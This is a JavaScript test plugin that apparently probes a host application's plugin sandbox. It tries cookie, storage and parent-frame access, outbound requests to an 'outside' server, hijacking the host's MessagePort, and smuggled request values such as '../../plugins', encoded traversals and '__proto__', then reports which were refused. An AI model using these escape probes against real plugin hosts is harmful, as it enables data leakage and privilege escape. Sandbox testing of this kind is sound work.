// `outside` is a server that may not hear of anything, `here` the server of the page.
const attacks = (outside, here) => ({
  cookie: () => document.cookie,
  "write cookie": () => (document.cookie = "a=1"),
  localStorage: () => localStorage.length,
  sessionStorage: () => sessionStorage.length,
  indexedDB: () => new Promise((done, fail) => Object.assign(indexedDB.open("a"), { onsuccess: done, onerror: fail })),
  caches: () => caches.open("a"),
  "parent document": () => parent.document.title,
  "parent storage": () => parent.localStorage.length,
  "parent address": () => parent.location.href,
  "other frames": () => [...Array(parent.length).keys()].map((one) => parent[one]).filter((one) => one !== self)[0].document.title,
  "leave at the top": () => (top.location = `${outside}/top`),
  "open a window": () => open(`${outside}/window`).document,
  "fetch the server": () => fetch(`${here}/api/plugins`),
  "fetch without cors": () => fetch(`${outside}/fetch`, { mode: "no-cors" }),
  socket: () => new Promise((done, fail) => Object.assign(new WebSocket(`${outside.replace("http", "ws")}/ws`), { onopen: done, onerror: fail })),
  "event source": () => new Promise((done, fail) => Object.assign(new EventSource(`${outside}/events`), { onopen: done, onerror: fail })),
  "import a module": () => import(`${outside}/module.js`),
  "import of the plugin": () => import(`${here}/plugins/acme-frame/panel.js`),
  picture: () => loaded("img", { src: `${outside}/picture` }),
  "style sheet": () => loaded("link", { rel: "stylesheet", href: `${outside}/style.css` }),
  script: () => loaded("script", { src: `${outside}/script.js` }),
  "frame outside": () => inFrame({ src: `${outside}/frame` }),
  "frame of the server": () => inFrame({ src: `${here}/` }),
  "frame without address": () => inFrame({ srcdoc: "<p>" }),
  worker: () => new Promise((done, fail) => Object.assign(new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))), { onmessage: done, onerror: fail })),
  "service worker": () => navigator.serviceWorker.register(`${here}/plugins/tavern-studio/studio.js`),
  eval: () => (0, eval)("1"),
  function: () => new Function("return 1")(),
  clipboard: () => navigator.clipboard.readText(),
  camera: () => navigator.mediaDevices.getUserMedia({ video: true }),
});

// What says nothing of having failed; whether it did is seen outside.
const quiet = (outside) => ({
  beacon: () => navigator.sendBeacon(`${outside}/beacon`),
  preload: () => added("link", { rel: "preload", as: "image", href: `${outside}/preload` }),
  prefetch: () => added("link", { rel: "prefetch", href: `${outside}/prefetch` }),
  "style rule": () => (added("style").textContent = `@import "${outside}/import.css"; body { background: url(${outside}/back) }`),
  font: () => (added("style").textContent = `@font-face { font-family: f; src: url(${outside}/font) } body { font-family: f }`),
  form: () => added("form", { action: `${outside}/form`, method: "post" }).submit(),
  "link to the top": () => added("a", { href: `${outside}/link`, target: "_top" }).click(),
  ping: () => added("a", { href: "#", ping: `${outside}/ping` }).click(),
  preconnect: () => added("link", { rel: "preconnect", href: outside }),
  "peer connection": async () => {
    const urls = `turn:${new URL(outside).host}?transport=tcp`;
    const peer = new RTCPeerConnection({ iceServers: [{ urls, username: "a", credential: "b" }] });
    peer.createDataChannel("a");
    await peer.setLocalDescription(await peer.createOffer());
  },
  message: () => parent.postMessage({ type: "ask", id: 1, method: "getConfig", values: [] }, "*"),
});

const questions = {
  "unknown method": ["steal"],
  "method of objects": ["constructor"],
  prototype: ["__proto__"],
  "command of others": ["addCommand", "editor.undo"],
  "route of the host": ["request", "../../plugins", "GET"],
  "encoded dots": ["request", "%2e%2e/%2E%2E/plugins", "GET"],
  "encoded slash": ["request", "..%2f..%2fplugins", "GET"],
  backslashes: ["request", "..\\..\\plugins", "GET"],
  "whole address": ["request", "http://127.0.0.1:1/", "GET"],
  "other host": ["request", "x:/../../..//127.0.0.1:1/", "GET"],
  "other plugin": ["request", "../acme-frame-more/echo", "GET"],
  "other method": ["request", "echo", "PUT"],
  "no path": ["request", { href: "/" }, "GET"],
};

function added(name, properties = {}) {
  return document.body.appendChild(Object.assign(document.createElement(name), properties));
}

function loaded(name, properties) {
  return new Promise((done, fail) => added(name, { ...properties, onload: done, onerror: fail }));
}

async function inFrame(properties) {
  const frame = added("iframe", properties);
  await new Promise((done) => setTimeout(done, 200));
  return frame.contentWindow.document.title;
}

const without = (all, left) => Object.fromEntries(Object.entries(all).filter(([name]) => !left.includes(name)));

async function tried(all) {
  const told = {};
  for (const [name, attack] of Object.entries(all)) {
    try {
      const limit = new Promise((_, fail) => setTimeout(() => fail(new Error("nothing came")), 1000));
      const got = await Promise.race([attack(), limit]);
      told[name] = `REACHED ${String(got)}`;
    } catch (error) {
      told[name] = `refused: ${error?.name ?? error?.type}`;
    }
  }
  return told;
}

/** Return the port of the panel, which the interface keeps to itself. */
function stolenPort(api) {
  const { postMessage } = MessagePort.prototype;
  return new Promise((done) => {
    MessagePort.prototype.postMessage = function (...values) {
      MessagePort.prototype.postMessage = postMessage;
      postMessage.apply(this, values);
      done(this);
    };
    api.getConfig("outside");
  });
}

export async function attack(outside, here, left = []) {
  const told = await tried(without(attacks(outside, here), left));
  for (const [name, one] of Object.entries(without(quiet(outside), left))) {
    try {
      await one();
    } catch (error) {
      told[name] = `refused: ${error.name}`;
    }
  }
  await new Promise((done) => setTimeout(done, 500));
  return told;
}

export default async function setup(api) {
  const outside = await api.getConfig("outside");
  const show = (text) => (api.root.textContent = text);
  if (api.panel === "late") return new Promise(() => {});
  if (api.panel === "leave") location.href = `${outside}/left`;
  if (api.panel === "garbage") (await stolenPort(api)).postMessage({ type: "ready" });
  if (api.panel === "flood") for (let count = 0; count < 1000; count += 1) void api.getConfig("outside");
  if (api.panel !== "attack") return show(api.panel);
  const port = await stolenPort(api);
  const ask = (id, [method, ...values]) => port.postMessage(JSON.stringify({ type: "ask", id, method, values }));
  const answers = {};
  const asked = Object.entries(questions);
  const done = new Promise((resolve) => {
    port.addEventListener("message", ({ data }) => {
      const { id, error, value } = JSON.parse(data);
      if (id < 1e6) return;
      answers[asked[id - 1e6][0]] = error === undefined ? `REACHED ${JSON.stringify(value)}` : "refused";
      if (Object.keys(answers).length === asked.length) resolve();
    });
  });
  asked.forEach(([, question], index) => ask(1e6 + index, question));
  await done;
  const told = { ...answers, ...(await attack(outside, new URL(location.href).origin)) };
  const echoed = await api.request("echo", { method: "POST", body: { a: 1 } });
  api.commands.add({ id: "shout", run: () => show("SHOUTED") });
  api.onConfigChange("outside", (value) => show(`CHANGED ${value}`));
  show(JSON.stringify({ told, echoed, color: getComputedStyle(api.root).color, plugin: api.plugin }));
}
